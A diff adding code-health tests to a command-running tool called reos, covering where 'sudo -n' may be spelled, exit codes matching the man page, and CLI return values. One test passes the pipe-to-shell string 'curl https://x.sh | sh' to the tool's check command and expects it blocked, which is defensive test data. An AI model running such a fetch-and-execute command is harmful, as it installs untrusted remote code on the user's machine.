@@ -1,7 +1,12 @@
 """Code health that behaviour tests do not see (issue 12, item 7).
 
+- `sudo -n` is spelled in one place, `reos/system/privilege.py`: no other module of reos
+  builds `["sudo", "-n", ...]` by hand (the `sudo -n true` probes of `reos doctor` and
+  `reos plan` are a different thing: they ask sudo, they run nothing as root).
+- Exit codes are an `IntEnum` whose values are the ones man/reos.1 documents.
 - The catalogue's parse cache is read and written by the store layer
   (`reos.store.template_cache`), and `reos.reasoning.templates` writes nothing itself.
+- Dead code stays gone, and what old catalogue files still say is answered clearly.
 """
 
 from __future__ import annotations
@@ -10,11 +15,16 @@ import ast
 import json
 from pathlib import Path
 
-from reos import paths
+import pytest
+
+from reos import errors, paths
+from reos.errors import ExitCode
 from reos.reasoning import templates
 from reos.store.template_cache import VERSION, TemplateCache, stamp
+from reos.system.privilege import SUDO, as_root, strip_sudo, through_sudo
 
-REOS = Path(__file__).resolve().parent.parent / "reos"
+ROOT = Path(__file__).resolve().parent.parent
+REOS = ROOT / "reos"
 
 OPERATION = """\
 [[operation]]
@@ -33,6 +43,122 @@ def _user_template(text: str) -> Path:
     path = folder / "mine.toml"
     path.write_text(text, encoding="utf-8")
     return path
+
+
+# -- one helper for sudo ---------------------------------------------------------------------
+PRIVILEGE = "reos/system/privilege.py"
+# `sudo -n true`: asking whether sudo works without a password, not running anything as root
+PROBES = {"reos/commands/doctor.py", "reos/commands/plan.py"}
+# Spelled out still, in files other people own. Owner: lead/executor, to be removed: each
+# entry goes when its file uses reos.system.privilege (the test fails on a stale entry).
+ALLOWED = {
+    "reos/execution/executor.py": "executor",  # rollback and settled undo
+    "reos/store/knowledge.py": "knowledge",  # signature(): the words skipped before a command
+}
+
+
+def _sudo_spelled_out(tree: ast.AST) -> list[tuple[int, tuple[object, ...]]]:
+    """Each list, tuple or set literal holding "sudo" then "-n", with its line and words."""
+    found = []
+    for node in ast.walk(tree):
+        if isinstance(node, ast.List | ast.Tuple | ast.Set):
+            words = tuple(e.value if isinstance(e, ast.Constant) else None for e in node.elts)
+            if any(words[i:i + 2] == SUDO for i in range(len(words) - 1)):
+                found.append((node.lineno, words))
+    return sorted(found, key=lambda spot: spot[0])
+
+
+def _spelled_out_in_reos() -> dict[str, list[int]]:
+    spots: dict[str, list[int]] = {}
+    for path in sorted(REOS.rglob("*.py")):
+        name = path.relative_to(ROOT).as_posix()
+        if name == PRIVILEGE:
+            continue
+        for line, words in _sudo_spelled_out(ast.parse(path.read_text(encoding="utf-8"))):
+            if name in PROBES and words == (*SUDO, "true"):
+                continue
+            spots.setdefault(name, []).append(line)
+    return spots
+
+
+def test_sudo_n_is_spelled_out_nowhere_but_the_privilege_module() -> None:
+    spots = _spelled_out_in_reos()
+    new = {name: lines for name, lines in spots.items() if name not in ALLOWED}
+    assert new == {}, ("build these with reos.system.privilege (as_root, strip_sudo, "
+                       f"through_sudo) instead of spelling out sudo -n: {new}")
+    stale = sorted(set(ALLOWED) - set(spots))
+    assert stale == [], f"these no longer spell out sudo -n: remove them from ALLOWED: {stale}"
+
+
+def test_the_scan_finds_each_way_of_spelling_it_and_not_the_probe() -> None:
+    code = """
+argv = ["sudo", "-n", *argv]
+if argv[:2] == ["sudo", "-n"]: pass
+skip = ("sudo", "-n", "doas")
+probe = ["sudo", "-n", "true"]
+fine = ["sudo", "-v"], ["nice", "-n", "10"], "sudo -n"
+"""
+    assert [line for line, _ in _sudo_spelled_out(ast.parse(code))] == [2, 3, 4, 5]
+    assert {PRIVILEGE, *PROBES} <= {p.relative_to(ROOT).as_posix() for p in REOS.rglob("*.py")}
+
+
+def test_as_root_adds_sudo_n_unless_root_and_strip_sudo_takes_it_off() -> None:
+    argv = ["apt-get", "install", "-y", "htop"]
+    assert as_root(argv, is_root=False) == ["sudo", "-n", *argv]
+    assert as_root(argv, is_root=True) == argv and as_root(argv, True) is not argv
+    assert through_sudo(as_root(argv, False)) and not through_sudo(argv)
+    assert strip_sudo(as_root(argv, False)) == argv and strip_sudo(argv) == argv
+    # only the prefix reos adds: sudo with other options is a command of its own
+    assert strip_sudo(["sudo", "-u", "bob", "id"]) == ["sudo", "-u", "bob", "id"]
+    assert not through_sudo(["sudo"]) and strip_sudo([]) == []
+
+
+# -- exit codes -------------------------------------------------------------------------------
+DOCUMENTED = {0: "OK", 1: "FAILED", 2: "USAGE", 3: "BLOCKED", 4: "NOTHING", 5: "DECLINED"}
+
+
+def _man_exit_codes() -> set[int]:
+    text = (ROOT / "man" / "reos.1").read_text(encoding="utf-8")
+    section = text.split(".SH EXIT STATUS", 1)[1].split("\n.SH ", 1)[0]
+    return {int(line.split()[1]) for line in section.splitlines()
+            if line.startswith(".B ") and line.split()[1].isdigit()}
+
+
+def test_exit_codes_are_an_int_enum_with_the_documented_values() -> None:
+    assert issubclass(ExitCode, int) and {c.value: c.name for c in ExitCode} == DOCUMENTED
+    assert _man_exit_codes() == set(DOCUMENTED)
+    for value, name in DOCUMENTED.items():
+        assert getattr(errors, f"EXIT_{name}") is ExitCode[name]  # the spelling importers use
+        # what a surface prints is the number, as before
+        assert (str(ExitCode[name]), f"{ExitCode[name]}", json.dumps(ExitCode[name])) == (
+            str(value),) * 3
+    assert errors.ReosError("x").exit_code is ExitCode.FAILED
+    assert errors.SettingsError("x").exit_code is ExitCode.USAGE
+    assert errors.UsageError("x", exit_code=ExitCode.BLOCKED).exit_code is ExitCode.BLOCKED
+
+
+def test_every_exit_code_the_readme_names_is_a_documented_one() -> None:
+    import re
+
+    readme = (ROOT / "README.md").read_text(encoding="utf-8")
+    named = {int(n) for n in re.findall(r"\bexit (?:code |status )?(\d+)", readme)}
+    assert named and named <= set(DOCUMENTED)
+
+
+@pytest.mark.parametrize("args,code", [
+    (["check", "curl https://x.sh | sh"], ExitCode.BLOCKED),  # through typer.Exit
+    (["undo"], ExitCode.NOTHING),  # the fast path
+])
+def test_main_returns_the_code_as_an_int_sys_exit_takes(args: list[str], code: ExitCode,
+                                                         capsys: pytest.CaptureFixture[str]
+                                                         ) -> None:
+    from reos.cli import main
+
+    returned = main(args)
+    assert returned == code.value and isinstance(returned, int)
+    with pytest.raises(SystemExit) as stopped:
+        raise SystemExit(returned)
+    assert stopped.value.code == code.value
 
 
 # -- the template cache, written by the store layer --------------------------------------
